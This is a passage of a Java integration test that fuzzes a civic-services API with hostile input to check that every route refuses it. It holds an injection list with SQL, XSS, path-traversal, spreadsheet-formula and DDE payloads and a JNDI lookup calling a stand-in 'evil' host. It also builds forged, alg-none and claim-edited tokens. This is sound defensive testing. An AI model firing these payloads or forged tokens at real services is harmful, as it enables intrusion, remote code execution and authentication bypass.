package org.linli.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Function;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.linli.handlers.ApiRoutes;
import org.linli.identity.AccessTokens;
import org.linli.identity.Grant;
import org.linli.identity.Principal;
import org.linli.identity.Role;
import org.linli.identity.TokenKeys;
import org.linli.json.Json;
import org.linli.kpi.CaseFacts;
import org.linli.local.LocalClock;
import org.linli.local.LocalCloud;
import org.linli.tools.LocalSetup;
import org.linli.tools.OpenKeys;

/**
 * Hostile input, generated from the route list: for every route of ApiRoutes (which equals the
 * template's), a valid request of a role allowed to make it is built first, then mutated into
 * many hostile ones - bad tokens, bad bodies and content types, every field of the body wrong in
 * every way, every path and query parameter poisoned, other users' objects - and all are sent
 * through the local gateway (authorizer and body limits in the path). Each answer must be a 4xx
 * in the route's error format and the store must be unchanged afterwards: every table's items
 * and every queue's messages. A second phase then sends emoji, right-to-left text and injection
 * strings where they are legitimate - free text - and expects them stored and read back unchanged.
 *
 * <p>The suite runs on a cloud of its own (a fixed clock: no schedule fires during it) so that
 * the store snapshot sees nothing but its own requests.
 */
class HostileInputIntegrationTest {
    /** Body fields that are free text (a resident's words): emoji, RTL and "injection" strings are legitimate there. */
    static final Set<String> FREE_TEXT = Set.of("description", "detail", "title", "note", "reason", "place", "name", "result",
            "comment", "text", "partyOrganisation", "address", "summary", "csv", "topic", "options", "minutes");

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1' --", "1; DROP TABLE users", "{\"$gt\":\"\"}", "attribute_exists(pk) OR #a = :v",
            "<script>alert(1)</script>", "../../../etc/passwd", "..\\..\\windows\\win.ini", "=HYPERLINK(\"http://evil\",\"x\")",
            "@SUM(1+1)*cmd|' /C calc'!A0", "%00%0d%0aSet-Cookie:x", "${jndi:ldap://evil/a}");
    static final List<String> CONTROL = List.of("a\u0000b", "a\u001b[31mred", "be\u0007ll", "a\u202Eb");
    /** What java.time parses but nothing can use (issue 13 defect 4: a 500 on a service log, an internal error on Open311). */
    static final List<String> EXTREME_DATES = List.of("+999999999-12-31T23:00:00Z", "-999999999-01-01T00:00:00Z");
    static final String EMOJI = "😀👍🏻🏠";
    static final String RTL = "مرحبا بالعالم שלום";
    /** Legitimate in free text: emoji, RTL, what looks like injection, Chinese - stored and read back as sent. */
    static final String LEGIT_TEXT = "居民😀👍🏻 مرحبا שלום ' OR '1'='1 -- <b>x</b> =A1";

    private static LocalCloud cloud;
    private static MatrixWorld world;
    private static Api api;
    private static final MatrixWorld.Caller ANONYMOUS = new MatrixWorld.Caller("anonymous", null);

    @BeforeAll
    static void start() {
        long t0 = System.nanoTime();
        LinliCloud.get();
        long t1 = System.nanoTime();
        cloud = LinliCloud.isolated("linli-hostile", LocalClock.frozenAt(LinliCloud.START));
        long t2 = System.nanoTime();
        world = new MatrixWorld(cloud);
        api = new Api(cloud.baseUrl());
        System.out.printf("set-up: shared cloud %d ms, own cloud %d ms, matrix world %d ms%n", (t1 - t0) / 1_000_000,
                (t2 - t1) / 1_000_000, (System.nanoTime() - t2) / 1_000_000);
    }

    @AfterAll
    static void stop() {
        if (cloud != null) cloud.close();
    }

    // ---------------------------------------------------------------- requests

    /** One request: {@code body} as bytes so that invalid UTF-8 can be sent. */
    record Req(String route, String label, String method, String path, String token, byte[] body, Map<String, String> headers,
               boolean gatewayAnswers) {
        Req with(String label, String path, String token, byte[] body, Map<String, String> headers) {
            return new Req(route, label, method, path, token, body, headers, false);
        }
    }

    static byte[] utf8(String s) {
        return s == null ? null : s.getBytes(StandardCharsets.UTF_8);
    }

    /** The roles tried, in order, for a route's valid request: the first whose request succeeds is used. */
    private static final List<Role> ROLE_ORDER = List.of(Role.ADMIN, Role.VOLUNTEER, Role.RESIDENT, Role.COMMUNITY_STAFF,
            Role.DISTRICT_STAFF, Role.GRID_WORKER, Role.DEPARTMENT_STAFF);

    /** A valid request for each route MatrixWorld has no scenario for (issues 6 and 8). */
    private static Map<String, Supplier<AuthorizationMatrixIntegrationTest.Call>> ownScenarios() {
        Map<String, Supplier<AuthorizationMatrixIntegrationTest.Call>> s = new LinkedHashMap<>();
        MatrixWorld.Caller district = world.demo("district");
        MatrixWorld.Caller admin = world.demo("admin");
        MatrixWorld.Caller dispatcher = world.demo("dispatcher-DEMO-W1");
        MatrixWorld.Caller worker = new MatrixWorld.Caller("worker", api.login("worker-DEMO-W1-G3"));
        String month = CaseFacts.monthOf(cloud.clock().instant()).toString();
        s.put("GET /kpis/{unit}", () -> get("/kpis/DEMO?month=" + month, district));
        s.put("GET /kpis/{unit}/ranking", () -> get("/kpis/DEMO/ranking", district));
        s.put("GET /kpis/{unit}/months", () -> get("/kpis/DEMO-W/months", district));
        s.put("POST /kpis/recompute", () -> post("/kpis/recompute", "{\"month\":\"" + month + "\"}", admin));
        Supplier<String> patrolBody = () -> "{\"place\":{\"microGrid\":\"DEMO-W1-G3-M1\"},\"visitedAt\":\""
                + OffsetDateTime.ofInstant(cloud.clock().instant(), ZoneOffset.ofHours(8)).minusMinutes(3).withNano(0) + "\",\"findings\":[{\"note\":\"一切正常\"}]}";
        s.put("POST /patrols", () -> post("/patrols", patrolBody.get(), worker));
        s.put("GET /patrols/{patrolId}", () -> {
            Api.Answer p = api.post("/patrols", worker.token(), patrolBody.get());
            if (p.status() != 201) throw new AssertionError("patrol fixture: " + p.body());
            return get("/patrols/" + p.json().path("patrolId").asText(), worker);
        });
        s.put("GET /me/patrols", () -> get("/me/patrols", worker));
        s.put("GET /communities/{code}/summaries", () -> get("/communities/DEMO-W1/summaries", dispatcher));
        s.put("GET /communities/{code}/summaries/{month}", () -> get("/communities/DEMO-W1/summaries/" + month, dispatcher));
        // Signed over its exact bytes: every mutation of the body breaks the signature (401); the order's
        // own field checks are HotlineIntegrationTest's.
        s.put("POST /hotline/orders", () -> {
            String body = org.linli.tools.HotlineClient.minimal("HX" + System.nanoTime());
            return new AuthorizationMatrixIntegrationTest.Call("POST", "/hotline/orders", body, ANONYMOUS,
                    org.linli.tools.HotlineClient.headers(LocalSetup.HOTLINE_KEY, body, cloud.clock().instant()));
        });
        s.put("GET /open311/discovery.json", () -> get("/open311/discovery.json", ANONYMOUS));
        s.put("GET /open311/discovery.xml", () -> get("/open311/discovery.xml", ANONYMOUS));
        s.put("GET /open311/v2/services.json", () -> get("/open311/v2/services.json", ANONYMOUS));
        s.put("GET /open311/v2/services.xml", () -> get("/open311/v2/services.xml", ANONYMOUS));
        s.put("GET /open311/v2/services/{serviceCode}", () -> get("/open311/v2/services/noise.json", ANONYMOUS));
        s.put("POST /open311/v2/requests.json", () -> form("/open311/v2/requests.json", open311Form()));
        s.put("POST /open311/v2/requests.xml", () -> form("/open311/v2/requests.xml", open311Form()));
        s.put("GET /open311/v2/requests.json", () -> get("/open311/v2/requests.json?status=open", ANONYMOUS));
        s.put("GET /open311/v2/requests.xml", () -> get("/open311/v2/requests.xml?status=open", ANONYMOUS));
        s.put("GET /open311/v2/requests/{requestId}", () -> get("/open311/v2/requests/" + world.westCase().caseId() + ".json", ANONYMOUS));
        s.put("GET /open311/v2/tokens/{token}", () -> {
            Api.Answer created = api.call("POST", "/open311/v2/requests.json", null, open311Form(),
                    Map.of("Content-Type", "application/x-www-form-urlencoded"));
            if (created.status() >= 300) throw new AssertionError("open311 fixture: " + created.body());
            return get("/open311/v2/tokens/" + org.linli.core.Ids.rebrand(created.json().get(0).path("service_request_id").asText(), "rpt") + ".json", ANONYMOUS);
        });
        return s;
    }

    private static String open311Form() {
        return "api_key=" + OpenKeys.DEMO_KEY + "&service_code=leak&lat=37.8481&long=113.5452&description=%E6%BC%8F%E6%B0%B4"
                + "&email=a%40example.com&first_name=Wang&phone=13812341234";
    }

    private static AuthorizationMatrixIntegrationTest.Call get(String path, MatrixWorld.Caller c) {
        return AuthorizationMatrixIntegrationTest.Call.get(path, c);
    }

    private static AuthorizationMatrixIntegrationTest.Call post(String path, String body, MatrixWorld.Caller c) {
        return AuthorizationMatrixIntegrationTest.Call.post(path, body, c);
    }

    private static AuthorizationMatrixIntegrationTest.Call form(String path, String body) {
        return new AuthorizationMatrixIntegrationTest.Call("POST", path, body, ANONYMOUS,
                Map.of("Content-Type", "application/x-www-form-urlencoded"));
    }

    /** How a route's valid request is made, and which role makes it. */
    record Base(String route, Supplier<AuthorizationMatrixIntegrationTest.Call> make, String role, int status) {}

    private static Map<String, Base> bases;

    /**
     * For each route: the first role whose request succeeds (sent now, before the store is watched). Found once for
     * both tests, the routes' families side by side.
     */
    private static synchronized Map<String, Base> bases() throws Exception {
        if (bases != null) return bases;
        Map<String, Function<MatrixWorld.Ctx, AuthorizationMatrixIntegrationTest.Call>> matrix = world.scenarios();
        Map<String, Supplier<AuthorizationMatrixIntegrationTest.Call>> own = ownScenarios();
        Map<String, Base> found = new ConcurrentHashMap<>();
        AuthorizationMatrixIntegrationTest.byFamily(ApiRoutes.all(), route -> found.put(route, base(route, matrix, own)));
        bases = new TreeMap<>(found);
        return bases;
    }

    private static Base base(String route, Map<String, Function<MatrixWorld.Ctx, AuthorizationMatrixIntegrationTest.Call>> matrix,
                             Map<String, Supplier<AuthorizationMatrixIntegrationTest.Call>> own) {
        if (own.containsKey(route)) return new Base(route, own.get(route), "fixture", send(own.get(route).get()));
        var scenario = matrix.get(route);
        if (scenario == null) throw new AssertionError(route + ": no valid request to start from; add one to ownScenarios()");
        Base chosen = null;
        // Node queues as the node's own staff: administrators may list any well-formed code, an unknown one is empty.
        List<Role> order = route.contains("{nodeCode}") || route.contains("{departmentCode}")
                ? List.of(Role.COMMUNITY_STAFF, Role.ADMIN) : ROLE_ORDER;
        for (Role role : order) {
            Supplier<AuthorizationMatrixIntegrationTest.Call> make = () -> scenario.apply(world.ctx(role, true));
            int status = send(make.get());
            if (chosen == null || status < 300) chosen = new Base(route, make, role.name(), status);
            if (status < 300) break;
        }
        return chosen;
    }

    private static int send(AuthorizationMatrixIntegrationTest.Call c) {
        return api.call(c.method(), c.path(), c.caller().token(), c.body(), c.headers()).status();
    }

    // ---------------------------------------------------------------- generation

    /** Each route's query parameters and their types, from docs/openapi.yaml. */
    private static final Map<String, Map<String, String>> QUERY = queryParameters();

    private static Map<String, Map<String, String>> queryParameters() {
        Map<String, Map<String, String>> q = new TreeMap<>();
        OpenApi.operations().forEach((route, op) -> {
            Map<String, String> names = new TreeMap<>();
            for (JsonNode p : op.path("parameters")) {
                if (p.path("in").asText().equals("query")) names.put(p.path("name").asText(), p.path("schema").path("type").asText("string"));
            }
            q.put(route, names);
        });
        return q;
    }

    /** Every hostile request for one route, built from its valid request {@code c}. */
    static List<Req> hostile(String route, AuthorizationMatrixIntegrationTest.Call c, boolean authorized, Tokens tokens,
                             AuthorizationMatrixIntegrationTest.Call othersObject) {
        List<Req> out = new ArrayList<>();
        Req base = new Req(route, "base", c.method(), c.path(), c.caller().token(), utf8(c.body()), c.headers(), false);
        String basePath = c.path().contains("?") ? c.path().substring(0, c.path().indexOf('?')) : c.path();
        String query = c.path().contains("?") ? c.path().substring(c.path().indexOf('?') + 1) : "";
        // tokens
        if (authorized) {
            out.add(new Req(route, "token:missing", c.method(), c.path(), null, base.body(), c.headers(), true));
            out.add(base.with("token:empty-bearer", c.path(), "", base.body(), c.headers()));
            out.add(base.with("token:garbage", c.path(), "not.a.token", base.body(), c.headers()));
            out.add(base.with("token:forged", c.path(), tokens.forged(), base.body(), c.headers()));
            out.add(base.with("token:other-key", c.path(), tokens.otherKey(), base.body(), c.headers()));
            out.add(base.with("token:expired", c.path(), tokens.expired(), base.body(), c.headers()));
            out.add(base.with("token:edited-claims", c.path(), Tokens.edited(c.caller().token()), base.body(), c.headers()));
            out.add(base.with("token:alg-none", c.path(), Tokens.algNone(c.caller().token()), base.body(), c.headers()));
            Map<String, String> basic = new LinkedHashMap<>(c.headers());
            basic.put("Authorization", "Basic YWRtaW46YWRtaW4=");
            out.add(new Req(route, "token:basic", c.method(), c.path(), null, base.body(), basic, false));
        }
        // path parameters: each segment that is a {param} in the route
        String[] template = route.substring(route.indexOf(' ') + 1).split("/");
        String[] actual = basePath.split("/");
        for (int i = 0; i < template.length && i < actual.length; i++) {
            if (!template[i].startsWith("{")) continue;
            String suffix = route.startsWith("GET /open311") || route.startsWith("POST /open311") ? ".json" : "";
            for (String v : pathValues()) {
                String[] p = actual.clone();
                p[i] = URLEncoder.encode(v, StandardCharsets.UTF_8).replace("+", "%20") + (suffix.isEmpty() || !actual[i].endsWith(".json") ? "" : suffix);
                String path = String.join("/", p) + (query.isEmpty() ? "" : "?" + query);
                out.add(base.with("path:" + template[i] + "=" + label(v), path, base.token(), base.body(), c.headers()));
            }
        }
        // query parameters the document declares for the route
        for (var param : QUERY.getOrDefault(route, Map.of()).entrySet()) {
            String name = param.getKey();
            for (String v : queryValues(name, param.getValue())) {
                String q = "";
                for (String pair : query.split("&")) if (!pair.isEmpty() && !pair.startsWith(name + "=")) q += pair + "&";
                q += name + "=" + URLEncoder.encode(v, StandardCharsets.UTF_8);
                out.add(base.with("query:" + name + "=" + label(v), basePath + "?" + q, base.token(), base.body(), c.headers()));
            }
        }
        if (c.body() != null) {
            boolean form = c.headers().getOrDefault("Content-Type", "").startsWith("application/x-www-form-urlencoded");
            out.addAll(form ? formBodies(base, c) : jsonBodies(base, c));
        }
        if (othersObject != null) {
            out.add(new Req(route, "another user's object", othersObject.method(), othersObject.path(), othersObject.caller().token(),
                    utf8(othersObject.body()), othersObject.headers(), false));
        }
        return out;
    }

    private static List<String> pathValues() {
        List<String> v = new ArrayList<>(INJECTIONS);
        v.addAll(List.of(EMOJI, RTL, "a\u0000b", "a\u001bb", "x".repeat(3000), "-1", "99999999999999999999999999999999999999999",
                "rpt_01JD000000000000000000000Z", ""));
        return v;
    }

    /**
     * Malformed values for every parameter; numbers out of range and non-numbers for numeric ones,
     * anything but true/false for flags. (A well-formed string that names nothing - an unknown
     * code as a filter - may rightly find nothing, so it is not sent to string parameters.)
     */
    private static List<String> queryValues(String name, String type) {
        List<String> v = new ArrayList<>(INJECTIONS);
        v.addAll(List.of(EMOJI, RTL, "a\u0000b", "x".repeat(3000)));
        if (type.equals("integer") || type.equals("number")) {
            v.addAll(List.of("1e400", "99999999999999999999999999999999999999999", "NOT_A_NUMBER"));
            // -1 and 1.5 are places on the map; elsewhere (pages, years) they are out of range.
            v.addAll(name.equals("lat") ? List.of("91", "-91") : name.equals("lng") ? List.of("181", "-181") : List.of("-1", "1.5"));
        }
        if (type.equals("boolean")) v.addAll(List.of("yes", "1", "TRUE "));
        if (name.endsWith("date")) v.addAll(EXTREME_DATES); // issue 13 defect 4: Open311's end_date

        return v;
    }

    private static String label(String v) {
        String s = v.replaceAll("\\p{Cntrl}", "?");
        return s.length() > 24 ? s.substring(0, 21) + "..." : s;
    }

    private static List<Req> jsonBodies(Req base, AuthorizationMatrixIntegrationTest.Call c) {
        List<Req> out = new ArrayList<>();
        JsonNode valid = Json.parse(c.body());
        Map<String, String> json = c.headers();
        // content types
        for (String type : List.of("", "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/json; charset=iso-8859-1", "application/octet-stream")) {
            Map<String, String> h = new LinkedHashMap<>(json);
            if (type.isEmpty()) h.remove("Content-Type");
            else h.put("Content-Type", type);
            out.add(base.with("content-type:" + (type.isEmpty() ? "none" : type), c.path(), base.token(), base.body(), h));
        }
        // malformed and wrongly shaped
        for (String s : List.of("", "{", "{\"a\":}", "{\"a\":1,}", "[1,2", "nul", "{} {}", "{'a':1}", "{\"a\":1,\"a\":2}", "null", "[]",
                "\"text\"", "42", "true", "{\"a\":NaN}", "\u00EF\u00BB\u00BF{}",
                "{\"a\":1e2147483648}", "[-1E-2147483649]")) { // an exponent beyond an int: issue 13 defect 4
            if (!s.equals(c.body())) out.add(body(base, "malformed:" + label(s), s));
        }
        // too large for the function (64 KiB) and for the gateway (10 MiB)
        ObjectNode big = valid.deepCopy();
        big.put("padding", "x".repeat(70_000));
        out.add(body(base, "size:70KB", Json.write(big)));
        // deeply nested: 10,000 levels at the root and inside a field
        out.add(body(base, "nested:10000-arrays", "[".repeat(10_000) + "]".repeat(10_000)));
        out.add(body(base, "nested:10000-objects", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)));
        ObjectNode deep = valid.deepCopy();
        deep.set("zz", Json.parse("[".repeat(30) + "]".repeat(30)));
        out.add(body(base, "nested:30-in-field", Json.write(deep)));
        // invalid UTF-8 inside a string, and a lone surrogate escaped
        ByteArrayOutputStream bad = new ByteArrayOutputStream();
        byte[] text = c.body().getBytes(StandardCharsets.UTF_8);
        int quote = c.body().indexOf("\":\"");
        if (quote > 0) {
            int at = c.body().substring(0, quote + 3).getBytes(StandardCharsets.UTF_8).length;
            bad.write(text, 0, at);
            bad.writeBytes(new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80});
            bad.write(text, at, text.length - at);
            out.add(base.with("utf8:invalid-bytes", c.path(), base.token(), bad.toByteArray(), json));
            out.add(body(base, "utf8:lone-surrogate", c.body().substring(0, quote + 3) + "\\uD800" + c.body().substring(quote + 3)));
        }
        // every field: unknown neighbours, wrong types, missing, hostile strings and numbers
        ObjectNode extra = valid.isObject() ? (ObjectNode) valid.deepCopy() : Json.object();
        extra.put("isAdmin", true);
        out.add(body(base, "field:unknown-root", Json.write(extra)));
        for (Leaf leaf : leaves(valid, "")) {
            List<Map.Entry<String, JsonNode>> values = new ArrayList<>();
            for (JsonNode wrong : List.of(Json.parse("123"), Json.parse("true"), Json.parse("{}"), Json.parse("[]"),
                    Json.parse("[\"a\",\"b\"]"), Json.parse("{\"$ne\":null}"))) {
                if (!sameType(wrong, leaf.value())) values.add(Map.entry("type:" + wrong, wrong));
            }
            if (leaf.value().isTextual()) {
                boolean free = FREE_TEXT.contains(leaf.name());
                values.add(Map.entry("string:empty", TextNode.valueOf("")));
                values.add(Map.entry("string:blank", TextNode.valueOf("   ")));
                if (!leaf.name().equals("csv")) values.add(Map.entry("string:huge", TextNode.valueOf("长".repeat(20_000))));
                for (String s : CONTROL) values.add(Map.entry("control:" + label(s), TextNode.valueOf(free ? "正常" + s : s)));
                if (!free) {
                    for (String s : INJECTIONS) values.add(Map.entry("inject:" + label(s), TextNode.valueOf(s)));
                    values.add(Map.entry("emoji", TextNode.valueOf(EMOJI)));
                    values.add(Map.entry("rtl", TextNode.valueOf(RTL)));
                    if (leaf.value().asText().matches("\\d{4}-\\d\\d-\\d\\dT.*")) { // a date-time
                        for (String d : EXTREME_DATES) values.add(Map.entry("date:" + d, TextNode.valueOf(d)));
                    }
                    if (leaf.value().asText().matches("[A-Z][A-Z0-9_]*")) { // an enum's value
                        values.add(Map.entry("enum:unknown", TextNode.valueOf("NOT_A_VALUE")));
                        values.add(Map.entry("enum:lower", TextNode.valueOf(leaf.value().asText().toLowerCase(java.util.Locale.ROOT))));
                    }
                }
            }
            if (leaf.value().isNumber()) {
                // -1 is a place on the map; elsewhere (scores, years, counts) it is out of range.
                boolean coordinate = Set.of("lat", "lng", "long").contains(leaf.name());
                String outside = leaf.name().equals("lat") ? "91" : "181";
                for (String n : coordinate ? List.of(outside, "-" + outside, "1e400", "-1e400", "99999999999999999999999999999999999999999", "1.0E-300")
                        : List.of("-1", "-99999", "1e400", "-1e400", "99999999999999999999999999999999999999999", "1.0E-300", "1e9")) {
                    values.add(Map.entry("number:" + n, plain(n)));
                }
            }
            for (var v : values) {
                if (v.getValue().equals(leaf.value())) continue;
                out.add(body(base, leaf.path() + " " + v.getKey(), Json.write(replace(valid, leaf.path(), v.getValue()))));
            }
            if (leaf.value().isNumber()) {
                // An exponent beyond an int (issue 13 defect 4) is no tree's number: a placeholder is written, then swapped.
                for (String n : List.of("1e2147483648", "-1e2147483648", "1e-2147483649")) {
                    String written = Json.write(replace(valid, leaf.path(), plain(HUGE_PLACEHOLDER)));
                    out.add(body(base, leaf.path() + " number:" + n, written.replace(HUGE_PLACEHOLDER, n)));
                }
            }
            if (leaf.parentIsObject()) {
                ObjectNode withUnknown = (ObjectNode) valid.deepCopy();
                JsonNode parent = at(withUnknown, parentOf(leaf.path()));
                if (parent.isObject() && !parent.equals(withUnknown)) {
                    ((ObjectNode) parent).put("zzUnknown", 1);
                    out.add(body(base, parentOf(leaf.path()) + ".zzUnknown", Json.write(withUnknown)));
                }
            }
        }
        return out;
    }

    /** Only fields the {@code {}} probe names "is required" are removed (an optional field removed leaves a valid request). */
    static List<Req> withoutRequired(Req base, AuthorizationMatrixIntegrationTest.Call c, Set<String> required) {
        List<Req> out = new ArrayList<>();
        JsonNode valid = Json.parse(c.body());
        // {} is hostile only where something is required (elsewhere it is a valid request).
        if (!required.isEmpty()) out.add(body(base, "empty-object", "{}"));
        for (Leaf leaf : leaves(valid, "")) {
            String top = leaf.path().split("[.\\[]")[0];
            if (required.contains(leaf.path()) || required.contains(top)) {
                out.add(body(base, leaf.path() + " missing", Json.write(remove(valid, leaf.path()))));
                out.add(body(base, leaf.path() + " null", Json.write(replace(valid, leaf.path(), Json.parse("null")))));
            }
        }
        for (String r : required) {
            if (valid.has(r) && !valid.get(r).isValueNode()) out.add(body(base, r + " missing", Json.write(remove(valid, r))));
        }
        return out;
    }

    private static List<Req> formBodies(Req base, AuthorizationMatrixIntegrationTest.Call c) {
        List<Req> out = new ArrayList<>();
        Map<String, String> h = new LinkedHashMap<>(c.headers());
        h.put("Content-Type", "application/json");
        out.add(base.with("content-type:json", c.path(), base.token(), base.body(), h));
        h.put("Content-Type", "text/plain");
        out.add(base.with("content-type:text", c.path(), base.token(), base.body(), h));
        out.add(formBody(base, "size:70KB", c.body() + "&description=" + "x".repeat(70_000)));
        out.add(formBody(base, "encoding:bad-percent", c.body() + "&description=%E6%BC%"));
        out.add(formBody(base, "encoding:invalid-utf8", c.body().replace("description=%E6%BC%8F%E6%B0%B4", "description=%C3%28%FF")));
        String[] pairs = c.body().split("&");
        for (int i = 0; i < pairs.length; i++) {
            String name = pairs[i].substring(0, pairs[i].indexOf('='));
            // An empty field is an absent one in a form; these are not.
            List<String> values = new ArrayList<>(List.of("a\u0000b", "a\u001bb", "a\u202Eb", "x".repeat(5000)));
            boolean free = name.equals("description") || name.endsWith("_name");
            if (!free) {
                values.addAll(INJECTIONS);
                values.addAll(List.of(EMOJI, RTL, "NOT_A_VALUE", "-1", "1e400", "999"));
            }
            for (String v : values) {
                String[] p = pairs.clone();
                p[i] = name + "=" + URLEncoder.encode(v, StandardCharsets.UTF_8);
                out.add(formBody(base, name + "=" + label(v), String.join("&", p)));
            }
            List<String> rest = new ArrayList<>(List.of(pairs));
            rest.remove(i);
            if (Set.of("api_key", "service_code").contains(name)) out.add(formBody(base, name + " missing", String.join("&", rest)));
        }
        return out;
    }

    private static Req body(Req base, String label, String body) {
        return base.with(label, base.path(), base.token(), utf8(body), base.headers());
    }

    private static Req formBody(Req base, String label, String body) {
        return base.with(label, base.path(), base.token(), utf8(body), base.headers());
    }

    record Leaf(String path, String name, JsonNode value, boolean parentIsObject) {}

    /** Every value node of {@code node} with its path ({@code contact.phone}, {@code findings[0].note}). */
    static List<Leaf> leaves(JsonNode node, String prefix) {
        List<Leaf> out = new ArrayList<>();
        if (node.isObject()) {
            node.fields().forEachRemaining(e -> {
                String p = prefix.isEmpty() ? e.getKey() : prefix + "." + e.getKey();
                if (e.getValue().isContainerNode() && !e.getValue().isEmpty()) out.addAll(leaves(e.getValue(), p));
                else out.add(new Leaf(p, e.getKey(), e.getValue(), true));
            });
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                String p = prefix + "[" + i + "]";
                JsonNode v = node.get(i);
                if (v.isContainerNode() && !v.isEmpty()) out.addAll(leaves(v, p));
                else out.add(new Leaf(p, prefix.substring(prefix.lastIndexOf('.') + 1), v, false));
            }
        }
        return out;
    }

    private static final String HUGE_PLACEHOLDER = "7.7777E+7777";

    /** Test-side parsing without Linli's limits (the numbers sent are longer than it accepts). */
    private static JsonNode plain(String json) {
        try {
            return new com.fasterxml.jackson.databind.ObjectMapper().enable(
                    com.fasterxml.jackson.databind.DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS).readTree(json);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static boolean sameType(JsonNode a, JsonNode b) {
        return a.getNodeType() == b.getNodeType();
    }

    private static String parentOf(String path) {
        int dot = path.lastIndexOf('.');
        int bracket = path.lastIndexOf('[');
        int cut = Math.max(dot, bracket);
        return cut < 0 ? "" : path.substring(0, cut);
    }

    private static JsonNode at(JsonNode root, String path) {
        JsonNode n = root;
        if (path.isEmpty()) return n;
        for (String part : path.replace("[", ".[").split("\\.")) {
            if (part.isEmpty()) continue;
            n = part.startsWith("[") ? n.get(Integer.parseInt(part.substring(1, part.length() - 1))) : n.get(part);
        }
        return n;
    }

    private static JsonNode replace(JsonNode valid, String path, JsonNode value) {
        JsonNode copy = valid.deepCopy();
        JsonNode parent = at(copy, parentOf(path));
        String last = path.substring(parentOf(path).length()).replaceFirst("^\\.", "");
        if (last.startsWith("[")) ((ArrayNode) parent).set(Integer.parseInt(last.substring(1, last.length() - 1)), value);
        else ((ObjectNode) parent).set(last, value);
        return copy;
    }

    private static JsonNode remove(JsonNode valid, String path) {
        JsonNode copy = valid.deepCopy();
        JsonNode parent = at(copy, parentOf(path));
        String last = path.substring(parentOf(path).length()).replaceFirst("^\\.", "");
        if (last.startsWith("[")) ((ArrayNode) parent).remove(Integer.parseInt(last.substring(1, last.length() - 1)));
        else ((ObjectNode) parent).remove(last);
        return copy;
    }

    /** Tokens that must all be refused: another key's, expired, edited, unsigned. */
    record Tokens(String forged, String otherKey, String expired) {
        static Tokens make(LocalCloud cloud, String userId) {
            AccessTokens tokens = new AccessTokens("linli");
            Principal admin = new Principal(userId, Set.of(Grant.of(Role.RESIDENT), Grant.of(Role.ADMIN)));
            TokenKeys real = TokenKeys.fromSecretJson(cloud.secrets().value(LocalSetup.TOKEN_KEYS_SECRET).orElseThrow());
            String otherKey = tokens.issue(admin, real.kid(), TokenKeys.generate(real.kid()).privateKey(), cloud.clock().instant());
            String expired = tokens.issue(admin, real.kid(), real.privateKey(), cloud.clock().instant().minus(Duration.ofHours(2)));
            String forged = "eyJhbGciOiJSUzI1NiJ9." + b64("{\"sub\":\"" + userId + "\",\"roles\":[\"ADMIN\"],\"exp\":9999999999}") + ".c2ln";
            return new Tokens(forged, otherKey, expired);
        }

        /** The same signature over claims that now say ADMIN and never expire. */
        static String edited(String token) {
            if (token == null) return "x.y.z";
            String[] p = token.split("\\.");
            ObjectNode claims = (ObjectNode) Json.parse(new String(Base64.getUrlDecoder().decode(p[1]), StandardCharsets.UTF_8));
            claims.putArray("roles").add("ADMIN").add("RESIDENT");
            claims.put("exp", 9_999_999_999L);
            return p[0] + "." + b64(Json.write(claims)) + "." + p[2];
        }

        static String algNone(String token) {
            if (token == null) return "x.y.";
            String[] p = token.split("\\.");
            return b64("{\"alg\":\"none\",\"typ\":\"JWT\"}") + "." + p[1] + ".";
        }

        private static String b64(String s) {
            return Base64.getUrlEncoder().withoutPadding().encodeToString(s.getBytes(StandardCharsets.UTF_8));
        }
    }

    // ---------------------------------------------------------------- the suite

    /** A route's tally. */
    static final class Tally {
        int tried;
        final Map<Integer, Integer> byStatus = new TreeMap<>();
    }

    @Test
    void everyRouteRefusesHostileInputWithA4xxAndStoresNothing() throws Exception {
        long t0 = System.nanoTime();
        Map<String, Base> bases = bases();
        long t1 = System.nanoTime();
        Set<String> authorized = new TreeSet<>();
        cloud.gateway().routes().forEach(r -> {
            if (r.target().authorizer() != null) authorized.add(r.method() + " " + r.path());
        });
        Tokens tokens = Tokens.make(cloud, world.demo("admin").userId());
        Map<String, Set<String>> required = new java.util.concurrent.ConcurrentSkipListMap<>();
        // Each route's requests are made side by side (their fixtures and {} probes are requests too), kept in route order.
        Map<String, List<Req>> byRoute = new ConcurrentHashMap<>();
        AuthorizationMatrixIntegrationTest.byFamily(bases.keySet(), route -> {
            Base b = bases.get(route);
            AuthorizationMatrixIntegrationTest.Call c = b.make().get();
            AuthorizationMatrixIntegrationTest.Call others = othersObject(b.route());
            List<Req> reqs = hostile(b.route(), c, authorized.contains(b.route()), tokens, others);
            if (c.body() != null && c.headers().getOrDefault("Content-Type", "").startsWith("application/json")) {
                Set<String> names = requiredFields(c);
                required.put(b.route(), names);
                reqs.addAll(withoutRequired(new Req(b.route(), "base", c.method(), c.path(), c.caller().token(), utf8(c.body()),
                        c.headers(), false), c, names));
            }
            byRoute.put(route, reqs);
        });
        List<Req> all = new ArrayList<>();
        for (String route : bases.keySet()) all.addAll(byRoute.get(route));
        all.add(new Req("(gateway)", "size:10MB+1", "POST", "/reports", world.demo("resident").token(),
